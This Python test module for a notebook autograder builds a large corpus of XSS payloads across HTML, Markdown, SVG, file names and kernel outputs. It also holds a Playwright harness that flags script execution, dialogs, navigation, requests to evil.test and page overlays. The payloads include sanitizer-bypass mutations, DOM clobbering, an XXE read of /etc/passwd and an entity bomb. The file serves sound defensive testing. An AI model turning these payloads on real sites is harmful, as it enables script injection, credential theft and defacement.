"""What a submission may try on a browser: one corpus for outputs, prose, names and comments.

Whatever runs sets `window.pwned`, opens a dialog, leaves the page, sends a request to evil.test or
covers the page; `look` looks for all of these in a browser.
"""

# ruff: noqa: E501  (an attack is read in one line)

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder import notebook as nb_
from autograder.authoring.build import to_source
from autograder.grading.graft import graft
from kit.rules import tiny_course, tiny_text

JS = "window.pwned=1;alert(1)"
EVIL = "http://evil.test"
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"

HTML = {
    "script": f"<script>{JS}</script>",
    "script in capitals": f"<ScRiPt>{JS}</sCrIpT>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "script unclosed": f"<script>{JS}//",
    "script nested": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "img onerror": f'<img src=x onerror="{JS}">',
    "img onerror, slashes": f"<img/src=x/onerror={JS}//>",
    "img onload": f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload='{JS}'>",
    "img elsewhere": f"<img src='{EVIL}/pixel.png'>",
    "img srcset": f"<img srcset='{EVIL}/pixel.png 1x'>",
    "picture": f"<picture><source srcset='{EVIL}/p.png'><img src='{EVIL}/q.png'></picture>",
    "body onload": f"<body onload='{JS}'>",
    "body onpageshow": f"</div></body><body onpageshow='{JS}'>",
    "details ontoggle": f"<details open ontoggle='{JS}'>x</details>",
    "marquee onstart": f"<marquee onstart='{JS}'>x</marquee>",
    "video onerror": f"<video src=x onerror='{JS}'><source onerror='{JS}'></video>",
    "audio autoplay": f"<audio autoplay src='{EVIL}/a.mp3' onloadstart='{JS}'></audio>",
    "input autofocus": f"<input autofocus onfocus='{JS}'>",
    "select autofocus": f"<select autofocus onfocus='{JS}'><option>x</select>",
    "div tabindex autofocus": f"<div tabindex=1 autofocus contenteditable onfocus='{JS}'>x</div>",
    "style animation event": (
        "<style>@keyframes x{from{color:red}}</style>"
        f"<b style='animation:x 1s' onanimationstart='{JS}'>x</b>"
    ),
    "svg onload": f"<svg onload='{JS}'></svg>",
    "svg script": f"<svg><script>{JS}</script></svg>",
    "svg animate": f"<svg><animate onbegin='{JS}' attributeName=x dur=1s></svg>",
    "svg set href": f"<svg><a><set attributeName=href to='javascript:{JS}'/><text>x</text></a></svg>",
    "svg foreignObject": f"<svg><foreignObject><iframe srcdoc='<script>parent.{JS}</script>'></svg>",
    "svg use": f"<svg><use href='data:image/svg+xml,{_SVG} id=x><script>{JS}</script></svg>#x'/></svg>",
    "svg image": f"<svg><image href='{EVIL}/x.png'/></svg>",
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    "iframe javascript": f"<iframe src='javascript:parent.{JS}'></iframe>",
    "iframe elsewhere": f"<iframe src='{EVIL}/'></iframe>",
    "object data": f"<object data='data:text/html,<script>parent.{JS}</script>'></object>",
    "embed": f"<embed src='{EVIL}/x.swf'>",
    "applet": f"<applet code='x' codebase='{EVIL}/'></applet>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "meta refresh javascript": f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    "base": f"<base href='{EVIL}/'>",
    "link stylesheet": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "link prefetch": f"<link rel='prefetch' href='{EVIL}/x'><link rel=dns-prefetch href='{EVIL}'>",
    "link import": f"<link rel=import href='{EVIL}/x.html'>",
    "a javascript": f"<a class=bait href='javascript:{JS}'>click</a>",
    "a javascript, entities": f"<a class=bait href='&#106;ava&Tab;script&colon;{JS}'>click</a>",
    "a javascript, control": f"<a class=bait href='\x01java\nscript:{JS}'>click</a>",
    "a vbscript": "<a class=bait href='vbscript:msgbox(1)'>click</a>",
    "a data": f"<a class=bait href='data:text/html,<script>opener.{JS}</script>'>click</a>",
    "a to the server": "<a class=bait href='/logout'>click</a>",
    "a over everything": f"<a class=bait href='{EVIL}/' style='{COVER}'>click</a>",
    "form action": f"<form action='{EVIL}/'><button autofocus>x</button></form>",
    "form javascript": f"<form action='javascript:{JS}'><input type=submit id=go></form>",
    "button formaction": f"<form id=f></form><button form=f formaction='javascript:{JS}'>x</button>",
    "isindex": f"<isindex type=image src=1 onerror='{JS}'>",
    "overlay": f"<div style='{COVER}'>you are graded 10/10</div>",
    "overlay, important": f"<div style='{COVER.replace(';', ' !important;')}'>x</div>",
    "overlay, bootstrap": "<div class='modal fade in' style='display:block'>x</div>",
    "overlay, negative margin": "<div style='margin:-3000px;padding:6000px;background:red'>x</div>",
    "style hides the page": "<style>body,body *{display:none!important}</style>",
    "style imports": f"<style>@import '{EVIL}/x.css';</style>",
    "style loads": f"<style>*{{background:url({EVIL}/x.png)}}</style>",
    "style attribute loads": f"<p style='background:url({EVIL}/x.png)'>x</p>",
    "style attribute, colour": f"<p style='background-color:red;color:url({EVIL}/x.png)'>x</p>",
    "expression": f"<p style='width:expression({JS});color:expression({JS})'>x</p>",
    "moz-binding": f"<p style='-moz-binding:url({EVIL}/x.xml#x)'>x</p>",
    "comment": f"<!--><script>{JS}</script>-->",
    "comment unclosed": "<!-- <b>the rest of the page",
    "conditional comment": f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{JS}</script>]]>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{JS}'?><script>{JS}</script>",
    "closing the page": f"</pre></div></div></main></body></html><script>{JS}</script>",
    "plaintext": "<plaintext>the rest of the page",
    "textarea": f"<textarea>the rest</textarea><textarea><img src=x onerror='{JS}'>",
    "title": f"<title><img src=x onerror='{JS}'></title><title>pwned</title>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={JS}>'>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    "noembed": f"<noembed><p title='</noembed><img src=x onerror={JS}>'>",
    "mutation, math style": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        f"onerror={JS}&gt;'>"
    ),
    "mutation, math form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src=x onerror='{JS}'></style></mglyph></form></mtext></math>"
    ),
    "mutation, svg style": f"<svg></p><style><a id='</style><img src=x onerror={JS}>'>",
    "mutation, svg title": f"<svg><title><style><img src='</style><img src=x onerror={JS}>'>",
    "mutation, deep": "<div>" * 600 + f"<table><td><script>{JS}</script>" + "</div>" * 600,
    "mutation, select": f"<select><template><style><!--</style><a rel='--></style><img src=x onerror={JS}>'>",
    "math href": f"<math href='javascript:{JS}' class=bait><mtext>click</mtext></math>",
    "math maction": f"<math><maction actiontype='statusline#{EVIL}' xlink:href='javascript:{JS}'>x",
    "template": f"<template shadowrootmode=open><script>{JS}</script><slot></slot></template>",
    "declarative shadow": (
        f"<div><template shadowrootmode=open><style>:host{{{COVER}}}</style></template></div>"
    ),
    "dialog": f"<dialog open style='{COVER}'>x</dialog>",
    "popover": f"<div popover=auto id=pop onbeforetoggle='{JS}'>x</div>"
    "<button popovertarget=pop autofocus>x</button>",
    "clobbering, formgrader": (
        "<form id=formgrader><input name=init></form><a id=submission_id></a><a id=base_url></a>"
        "<img name=getElementById><form name=body></form>"
    ),
    "clobbering, a task": "<div class=nbgrader_cell><input id='test-line' value=99></div>",
    "clobbering, jquery": "<a id=$></a><a id=jQuery></a><a id=_ href='cid:x'></a>",
    "mathjax script": f"<script type='math/tex'>\\href{{javascript:{JS}}}{{x}}</script>",
    "mathjax": f"$\\href{{javascript:{JS}}}{{\\text{{click}}}}$ $\\unicode{{x3c}}\\class{{modal}}{{x}}$",
    "angular, mustache": "{{constructor.constructor('window.pwned=1')()}} {% raw %}",
    "widget": "<script type='application/vnd.jupyter.widget-view+json'>{\"model_id\": 1}</script>",
    "data uri page": f"<img src='data:text/html,<script>{JS}</script>'>",
    "data uri, svg": "<img src='data:image/svg+xml;base64,"
    + base64.b64encode(f"{_SVG} onload='{JS}'><script>{JS}</script></svg>".encode()).decode()
    + "'>",
    "data uri, oversized": "<img src='data:image/png;base64," + "A" * 8_000_000 + "'>",
    "attribute breaks out": f"<img alt='\"><script>{JS}</script>' src=x>",
    "null bytes": f"<scr\x00ipt>{JS}</scr\x00ipt><img src=x on\x00error='{JS}'>",
    "utf-7": "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "ping": f"<a href='#x' ping='{EVIL}/'>x</a>",
    "portal and fenced frame": f"<portal src='{EVIL}/'></portal><fencedframe src='{EVIL}'></fencedframe>",
    "many tags": "<b>" * 30_000,
}

MARKDOWN = {
    "link": f"[click](javascript:{JS.replace('(', '%28').replace(')', '%29')})",
    "link, entities": "[click](&#106;avascript&colon;window.pwned=1)",
    "link, case and space": "[click](  JaVaScRiPt:window.pwned=1 'title')",
    "link in brackets": f"[click](<javascript:{JS}>)",
    "link, data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to the server": "[click](/logout) [click](../../../api/shutdown)",
    "reference": "[click][x]\n\n[x]: javascript:window.pwned=1",
    "autolink": "<javascript:window.pwned=1> javascript:window.pwned=1",
    "picture": f"![x]({EVIL}/pixel.png)",
    "picture, breaks out": f'![x](x"onerror="{JS.replace("(", "%28").replace(")", "%29")})',
    "picture, javascript": "![x](javascript:window.pwned=1)",
    "picture, alt": f'!["onerror="{JS}](x.png)',
    "picture, missing attachment": "![x](attachment:none.png)",
    "title breaks out": f'[x](http://x.y "\\"onmouseover=\\"{JS}")',
    "html block": f"<div>\n\n<script>\n{JS}\n</script>\n\n</div>",
    "html in a list": f"- <img src=x onerror='{JS}'>\n  - <iframe srcdoc='<script>parent.{JS}</script>'>",
    "html in a table": f"| a |\n|---|\n| <img src=x onerror='{JS}'> |",
    "html in a heading": f"# <img src=x onerror='{JS}'>",
    "html in emphasis": f"**<svg onload='{JS}'>**",
    "fence breaks out": f'```"><script>{JS}</script>\n</code></pre><script>{JS}</script>\n```',
    "fence, language": f"```<img/src=x/onerror={JS}>\nx\n```",
    "inline code breaks out": f"`</code><script>{JS}</script>`",
    "mermaid": f'```mermaid\n</pre><script>{JS}</script>\ngraph TD; A-->B; click A "javascript:{JS}"\n```',
    "formula": f"$</span><script>{JS}</script>$ $$<img src=x onerror='{JS}'>$$",
    "formula, environment": f"\\begin{{align}}<img src=x onerror='{JS}'>\\end{{align}}",
    "formula in an attribute": f"<b title='$x$ \" onmouseover={JS}'>b</b> ![$\\text{{\" onerror={JS}}}$](x)",
    "formula, far away": "$\\hspace{-2000em}\\rule{9999em}{9999em}\\raisebox{9999em}{x}$",
    "token": "\ue0000\ue001 $x$ \ue0009\ue001",
    "comment": f"<!-- --><script>{JS}</script> -->",
    "heading takes an id": "# test-line\n\n# body\n\n# top",
    "task list": f"- [ ] <input type=checkbox autofocus onfocus='{JS}'>",
    "footnote": f"[^1]\n\n[^1]: <script>{JS}</script>",
    "deep quotes": ">" * 5000 + " x",
    "brackets": "[" * 19_000,
    "too long": "\\\\[" * 20_000,
}

SVG = {
    "script": f"{_SVG}><script>{JS}</script></svg>",
    "onload": f"{_SVG} onload='{JS}'><rect width='9' height='9'/></svg>",
    "foreignObject": f"{_SVG}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
    f"<iframe src='javascript:{JS}'/></body></foreignObject></svg>",
    "image": f"{_SVG}><image xlink:href='{EVIL}/x.png' width='9' height='9'/></svg>",
    "use": f"{_SVG}><use xlink:href='{EVIL}/x.svg#x'/></svg>",
    "style": f"{_SVG}><style>@import url({EVIL}/x.css);</style></svg>",
    "animate": f"{_SVG}><a xlink:href='#'><animate attributeName='href' to='javascript:{JS}'/></a></svg>",
    "entity": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + f"{_SVG}>&x;</svg>",
    "bomb": "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]>"
    + f"{_SVG}><text>&b;</text></svg>",
    "stylesheet": f"<?xml-stylesheet href='{EVIL}/x.css'?>{_SVG}></svg>",
    "broken": f"{_SVG}><g></svg><script>{JS}</script>",
}


PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
NAMES = (
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    "</script><script>alert(1)<",
    "right\u202eto left",
    "a&b=c?d#e%2F..",
)


@dataclass
class Seen:
    """What a page did that it should not, a line each."""

    found: list[str] = field(default_factory=list)


@contextmanager
def chromium_of(path: str) -> Iterator[Any]:
    """A browser's context, for all pages of a module: starting one takes a second."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-gpu"])
        yield browser.new_context(viewport={"width": 1100, "height": 800})
        browser.close()


def look(
    context: Any, url: str, heading: str, allowed: Callable[[str], bool] = lambda url: False
) -> Seen:
    """Open a page, touch what wants to be touched, and tell what happened.

    heading: a selector of what has to be seen, with nothing on top. allowed: whether the page may
    load an address besides its own; any other is noted and goes nowhere.
    """
    page, seen = context.new_page(), Seen()

    def route(route: Any) -> None:
        address = route.request.url
        if address == url or address.startswith("data:image/") or allowed(address):
            route.continue_()
            return
        if address.startswith("https://cdnjs.cloudflare.com/"):  # nbgrader's own MathJax
            route.abort()
            return
        seen.found.append(f"request: {address[:150]}")
        route.fulfill(body="window.pwned = 1", content_type="text/javascript")

    def dialog(dialog: Any) -> None:
        seen.found.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def moved(frame: Any) -> None:
        if frame.url not in (url, "about:blank"):
            seen.found.append(f"navigation: {frame.url[:150]}")

    page.route("**/*", route)
    page.on("dialog", dialog)
    page.on("popup", lambda popup: seen.found.append(f"popup: {popup.url[:150]}"))
    page.on("framenavigated", moved)
    page.goto(url)
    page.wait_for_timeout(700)
    if not any(f.startswith("navigation") for f in seen.found):
        seen.found += page.evaluate(_INSPECT, heading)
        page.wait_for_timeout(200)
    if page.evaluate("window.pwned"):
        seen.found.append("script")
    page.close()
    return seen


# Whatever is active and still there; links that lead where none should; what covers the heading.
_INSPECT = r"""selector => {
    const found = [];
    const active = "iframe, object, embed, base, meta[http-equiv=refresh], dialog, [popover], "
        + "template, frame, applet, portal, link[href*=evil], foreignObject, marquee, "
        + "form[action*=evil], [autofocus], [contenteditable], textarea[onfocus], plaintext";
    for (const e of document.querySelectorAll(active)) found.push("element: " + e.outerHTML.slice(0, 120));
    for (const e of document.querySelectorAll("*"))
        for (const a of e.attributes)
            if (/^on/i.test(a.name) && /pwned/.test(a.value)) found.push("handler: " + e.outerHTML.slice(0, 120));
    for (const a of document.querySelectorAll("a, area, math, [xlink\\:href]")) {
        const href = a.getAttribute("href") || a.getAttribute("xlink:href") || "";
        if (/^[\s\x00-\x20]*(javascript|vbscript|data)/i.test(href) && /pwned|msgbox|html/.test(href))
            found.push("link: " + href.slice(0, 120));
        if (a.textContent.includes("click")) a.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
    }
    window.scrollTo(0, 0);
    const heading = document.querySelector(selector);
    if (!heading) return [...found, "no heading"];
    const box = heading.getBoundingClientRect();
    const top = document.elementFromPoint(box.x + Math.min(40, box.width / 2), box.y + box.height / 2);
    if (!box.width || !top || !(heading.contains(top) || top.contains(heading)))
        found.push("the heading is covered by " + (top ? top.outerHTML.slice(0, 120) : "nothing"));
    const style = getComputedStyle(heading);
    if (style.visibility !== "visible" || +style.opacity < 0.5) found.push("the heading is hidden");
    return found;
}"""


def notebook_with(language: str = "en") -> NotebookNode:
    """The tiny notebook as it is after grading, with every attack wherever a student can put one."""
    source = to_source(tiny_text(), tiny_course())
    notebook = graft(source, None).notebook
    notebook.metadata["practical_dl"] = {
        "flags": [HTML["script"]],
        "language": language,
        "notes": [HTML["img onerror"]],
        "sandboxed": True,
    }
    for test in nb_.test_cells(notebook).values():
        test.outputs = attack_outputs()[:3]
        test.metadata["practical_dl"] = {"message": HTML["svg onload"], "status": "wrong"}
    texts = [text for text in (*MARKDOWN.values(), *HTML.values()) if len(text) < 1_000_000]
    extra: list[NotebookNode] = [new_markdown_cell(text) for text in texts]
    extra += [new_code_cell(text) for text in list(HTML.values())[:5]]
    extra[-1].outputs = attack_outputs()
    picture = {"image/svg+xml": base64.b64encode(SVG["onload"].encode()).decode()}
    hidden = new_markdown_cell("![x](attachment:x.svg)", attachments={"x.svg": picture})
    notebook.cells[4:4] = [*extra, hidden]
    return notebook


def attack_outputs() -> list[NotebookNode]:
    """Outputs as a hostile kernel sends them; not all fit nbformat's schema."""
    breaks_out = {
        "width": f"1 onerror={JS}",
        "height": "x",
        "alt": f'" onload="{JS}',
        "unconfined": 1,
    }
    outputs: list[dict[str, Any]] = []
    for text in HTML.values():
        outputs.append(_display({"text/html": text}))
        outputs.append(_display({"text/html": text}, {"text/html": {"isolated": True}}))
    for text in HTML.values():
        if len(text) < 5000:
            outputs.append(
                {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{text}\x1b[0m\n"}
            )
            outputs.append(
                {
                    "output_type": "error",
                    "ename": text,
                    "evalue": text,
                    "traceback": [f"\x1b[1m{text}"],
                }
            )
            outputs.append(_display({"text/plain": text}))
            outputs.append(_display({"text/latex": text}))
    outputs += [_display({"text/markdown": text}) for text in MARKDOWN.values()]
    outputs += [_display({"image/svg+xml": text}) for text in SVG.values()]
    outputs += [
        _display({"application/javascript": JS}),
        _display({"text/vnd.mermaid": f"</pre><script>{JS}</script>"}),
        _display(
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": "x",
                    "script": f"<script>{JS}</script>",
                }
            }
        ),
        _display({"application/pdf": f"<script>{JS}</script>"}),
        _display({"text/html": [f"<script>{JS}", "</script>"], "text/plain": [1, None]}),
        _display({"text/plain": {"a": 1}}),
        _display({"image/png": PNG}, {"image/png": breaks_out}),
        _display({"image/png": PNG}, {"filenames": {"image/png": f"{EVIL}/x.png"}}),
        _display({"image/png": f'x" onerror="{JS}'}),
        _display({"image/jpeg": base64.b64encode(b"<script>").decode()}),
        {"output_type": "pwned", "data": {"text/html": HTML["script"]}},
        {
            "output_type": "execute_result",
            "execution_count": f"<script>{JS}</script>",
            "data": {"text/plain": "1"},
            "metadata": {},
        },
    ]
    return from_dict(outputs)


def _display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}
